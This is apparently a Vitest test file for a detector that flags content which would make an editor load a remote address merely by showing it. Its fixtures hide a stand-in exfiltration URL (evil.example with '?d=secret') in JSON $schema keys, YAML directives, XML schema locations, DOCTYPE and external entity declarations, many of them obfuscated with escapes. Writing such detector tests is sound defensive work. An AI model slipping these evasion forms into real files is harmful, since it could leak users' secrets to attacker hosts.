// Which code would have an editor load something, merely by being shown.
import { describe, expect, it } from 'vitest';
import { addressesToLoad } from '../../../src/shared/addressesToLoad.ts';

const evil = 'https://evil.example/s.json?d=secret';

// Rows: T18
describe('addressesToLoad', () => {
  it.each([
    ['JSON', `{ "$schema": "${evil}" }`],
    ['JSON with a comment between', `{ "$schema" /* a */ :\n // b\n "${evil}" }`],
    ['an escaped key', `{ "\\u0024schema": "${evil}" }`],
    ['escaped slashes', `{ "$schema": "https:\\/\\/evil.example\\/s.json?d=secret" }`],
    ['an escaped address', `{ "$schema": "\\u0068ttps://evil.example/s.json?d=secret" }`],
    ['YAML', `# yaml-language-server: $schema=${evil}\na: 1`],
    ['YAML with an escape', `"\\x24schema": ${evil}`],
    ['YAML with a long escape', `"\\U00000024schema": ${evil}`],
    ['XML', `<a xsi:schemaLocation="urn:a ${evil}"/>`],
    ['XML without a namespace', `<a xsi:noNamespaceSchemaLocation="${evil}"/>`],
    ['XML by numbers', `<a xsi:schemaLocation="urn:a &#x68;ttps://evil.example/s.json?d=secret"/>`],
    ['a document type', `<!doctype a SYSTEM "${evil}">`],
    ['an entity', `<!ENTITY % a SYSTEM "${evil}">`],
    ['a model', `<?xml-model href="${evil}"?>`],
  ])('finds what %s names', (_name, after) => {
    expect(addressesToLoad('', after)).toEqual([evil]);
    expect(addressesToLoad(after, after)).toEqual([]);
  });

  it('finds another address in the place of the one that was there', () => {
    const before = '{ "$schema": "https://json.schemastore.org/package.json" }';
    expect(addressesToLoad(before, before.replace('package', 'x'))).toEqual(['https://json.schemastore.org/x.json']);
    expect(addressesToLoad(before, `{ "name": "a", ${before.slice(2)}`)).toEqual([]);
  });

  it('finds nothing in code that only names addresses', () => {
    expect(addressesToLoad('', `fetch('${evil}'); // \\d &#65;`)).toEqual([]);
    expect(addressesToLoad('', '{ "$schema": "./schema.json" }')).toEqual([]);
    expect(addressesToLoad('', `<!DOCTYPE html>\n<script src="${evil}"></script>`)).toEqual([]);
    expect(addressesToLoad('', `<!DOCTYPE html SYSTEM "${evil}">`)).toEqual([evil]);
  });
});
